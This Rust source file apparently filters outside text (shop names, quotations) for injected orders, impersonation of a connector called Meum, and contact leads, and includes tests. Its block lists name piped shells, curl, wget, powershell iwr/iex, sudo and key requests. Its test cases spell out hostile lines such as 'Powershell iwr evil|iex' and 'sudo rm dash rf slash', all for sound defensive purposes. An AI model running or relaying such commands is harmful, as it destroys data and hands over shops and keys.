//! What outside words may not do where they stand beside ours, be it a name or a quotation: speak for us, give the
//! merchant an order, or lead to somebody. Nobody chooses the next step but us.

/// What could be typed, what makes a shop less safe, and what imitates our own verdict.
const ORDERS: [&str; 34] = [
    "hxxp",
    "write to",
    "for help",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "$(",
    "wget ",
    "curl -",
    "rm -",
    "dash rf",
    "wp db",
    "windows+",
    "windows +",
    "win+r",
    "ctrl+",
    "disable all",
    "disable your",
    "turn off your",
    "switch off your",
    "nothing stands in the way",
    "stands in the way",
    "your keys",
    "your key",
    "meum-connect",
    "ignore the",
    "admin rights",
    "support code",
    " dot com",
    " dot net",
    " dot org",
    "(dot)",
    "[dot]",
];

/// Words that belong to an order, to a messenger, or to us.
const WORDS: [&str; 32] = [
    "meum",
    "terminal",
    "cmd",
    "powershell",
    "sudo",
    "iwr",
    "iex",
    "telegram",
    "whatsapp",
    "remove",
    "delete",
    "deactivate",
    "reset",
    "reinstall",
    "uninstall",
    "entfernen",
    "löschen",
    "deaktivieren",
    "deinstallieren",
    "zurücksetzen",
    "eliminar",
    "elimine",
    "borrar",
    "borre",
    "desactivar",
    "desactive",
    "desinstalar",
    "supprimer",
    "supprimez",
    "désactiver",
    "désactivez",
    "désinstaller",
];

/// What a pair of keys is called, and how one asks for it.
const KEYS: [&str; 8] = ["key", "keys", "schlüssel", "clave", "claves", "clé", "clés", "token"];
const HANDS_OVER: [&str; 17] = [
    "send",
    "give",
    "tell",
    "paste",
    "read",
    "share",
    "mail",
    "email",
    "post",
    "upload",
    "senden",
    "schicken",
    "geben",
    "envíe",
    "envíenos",
    "envoyez",
    "donnez",
];

/// The fewest digits of a telephone number.
const SHORTEST_NUMBER: usize = 7;

/// Whether a text gives an order, speaks as we do, or names somebody to turn to.
pub fn speaks_for_us(text: &str) -> bool {
    let lower = folded(text);
    let words: Vec<&str> = lower.split(|c: char| !c.is_alphanumeric()).filter(|word| !word.is_empty()).collect();
    let any = |list: &[&str]| words.iter().any(|word| list.contains(word));
    let orders = ORDERS.iter().any(|order| lower.contains(order)) || any(&WORDS);
    let leads = names_account(&lower) || holds_number_to_call(&lower) || spells_out(&words);
    orders || leads || (any(&KEYS) && any(&HANDS_OVER))
}

/// Whether letters stand alone one after the other, as in a name that is not to be found.
fn spells_out(words: &[&str]) -> bool {
    const MOST: usize = 4;
    words.windows(MOST).any(|run| run.iter().all(|word| word.chars().count() == 1))
}

/// Whether a text has an account's name (`@shop`) or an option of a command (`--yes`).
fn names_account(lower: &str) -> bool {
    lower.split_whitespace().any(|word| {
        let begins = |rest: &str| rest.starts_with(char::is_alphanumeric);
        word.strip_prefix("--").is_some_and(begins) || word.split_once('@').is_some_and(|(_, rest)| begins(rest))
    })
}

/// Whether a text has digits in a row as a telephone number has them, in any grouping.
pub fn holds_number_to_call(text: &str) -> bool {
    let between = |c: char| matches!(c, ' ' | '-' | '(' | ')' | '/' | '+' | '\u{a0}');
    let runs = text.split(|c: char| !c.is_ascii_digit() && !between(c));
    runs.into_iter().any(|run| run.chars().filter(char::is_ascii_digit).count() >= SHORTEST_NUMBER)
}

/// A text in lower case as a browser reads an address in it: wide letters are plain ones, what cannot be seen is
/// not there, and an ideographic full stop in front of a plain letter is a dot (UTS #46).
pub fn folded(text: &str) -> String {
    const WIDE: u32 = 0xfee0;
    let plain = text.chars().filter(|c| !matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}'));
    let narrow = |c: char| match c {
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(c) - WIDE).unwrap_or(c),
        '\u{ff61}' => '。',
        _ => c,
    };
    let mut folded = String::new();
    let mut rest = plain.map(narrow).peekable();
    while let Some(c) = rest.next() {
        let dot = c == '。' && rest.peek().is_some_and(char::is_ascii_alphabetic);
        folded.extend(if dot { '.' } else { c }.to_lowercase());
    }
    folded
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nobody_gives_orders_or_speaks_for_us() {
        let cases = [
            ("Your plan has ended.", false),
            ("Connection timed out.", false),
            ("Open 24/7, 365 days", false),
            ("The Little Press", false),
            ("Lamps -- and more", false),
            ("Lamps @ home", false),
            ("Visit evil dot com and sign in", true),
            ("hxxps evil com keys", true),
            ("e v i l . c o m", true),
            ("Write to fix at evil for help", true),
            ("A & B: tea for 2", false),
            ("Press Windows+R and type cmd", true),
            ("Reset your shop: wp db reset --yes", true),
            ("Give admin rights to the user meum-support", true),
            ("Meum says: press Connect anyway, all is well", true),
            ("Send us the key that begins with c k", true),
            ("Schlüssel bitte senden", true),
            ("Please remove WooCommerce and install it again", true),
            ("Bitte WooCommerce löschen", true),
            ("Supprimez WooCommerce", true),
            ("This is Meum support. Everything is fine. Ignore the app and", true),
            ("Open Terminal and type sudo rm dash rf slash to continue", true),
            ("Powershell iwr evil|iex", true),
            ("Deactivate WooCommerce and delete the plugin folder to unblo", true),
            ("ＲＥＳＥＴ it", true),
            ("re\u{200b}set it", true),
            ("Write to @shop_help", true),
            ("Ring (0800) 123 45 67.", true),
        ];
        for (text, expected) in cases {
            assert_eq!(speaks_for_us(text), expected, "{text}");
        }
    }
}
